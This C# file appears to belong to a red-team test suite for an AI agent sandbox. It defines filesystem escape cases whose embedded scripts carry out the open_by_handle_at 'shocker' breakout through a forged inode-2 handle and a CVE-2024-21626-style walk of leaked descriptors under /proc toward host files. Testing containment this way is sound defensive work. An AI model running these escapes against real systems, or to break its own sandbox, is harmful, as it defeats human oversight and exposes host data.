using Airlock.RedTeam.Model;

namespace Airlock.RedTeam.Cases.Filesystem;

/// <summary>
/// Escapes through descriptors: open_by_handle_at on a host-backed mount (the "shocker" breakout), and the
/// CVE-2024-21626 class — a descriptor or working directory of the host leaked into the sandbox, walked up with "..".
/// </summary>
internal static class HandleAndFdAttacks
{
    public static IEnumerable<IAttackCase> All()
    {
        yield return new ScriptAttack
        {
            Category = Categories.Filesystem,
            Name = "open-by-handle-at",
            Attempts = "open_by_handle_at with a forged ext4 handle for inode 2 (the root of the filesystem behind the agent's bind mount and /), then walk to the host markers",
            Python = true,
            Script = c => Attack.Py + $$"""
                class fh(ctypes.Structure):
                    _fields_ = [('bytes', ctypes.c_uint), ('type', ctypes.c_int), ('f', ctypes.c_ubyte * 8)]
                for mnt in ['/.airlock/agent', '/', '/workspace', '/tmp']:
                    try: mfd = os.open(mnt, os.O_RDONLY)
                    except OSError as e: say(mnt, e); continue
                    h = fh(8, 1); h.f[:] = list(struct.pack('<II', 2, 0))
                    fd = libc.syscall(ctypes.c_long(304), mfd, ctypes.byref(h), ctypes.c_long(os.O_RDONLY | os.O_DIRECTORY))
                    if fd < 0: say('open_by_handle_at', mnt, os.strerror(ctypes.get_errno())); continue
                    say('handle opened on', mnt, os.listdir(fd)[:30])
                    for rel in {{string.Join(", ", c.Markers.Files.Select(f => "'" + f.TrimStart('/') + "'"))}}:
                        try: say(open(f'/proc/self/fd/{fd}/{rel}').read())
                        except OSError as e: say(rel, e)
                """,
        };
        yield return new ScriptAttack
        {
            Category = Categories.Filesystem,
            Name = "fd-leak-walk",
            Attempts = "CVE-2024-21626 class: every descriptor and cwd it can see (/proc/self/fd, /proc/*/fd, /proc/*/cwd) followed with '..' towards the host markers",
            Script = c => $$"""
                for d in /proc/self/fd/* /proc/[0-9]*/fd/* /proc/[0-9]*/cwd /proc/[0-9]*/root; do
                  t=$(readlink $d 2>/dev/null); echo "$d -> $t"
                  for f in {{string.Join(' ', c.Markers.Files)}}; do cat $d/../../../../../..$f $d$f 2>/dev/null; done
                done; echo walked
                """,
        };
        yield return new CwdLeakAttack();
    }
}
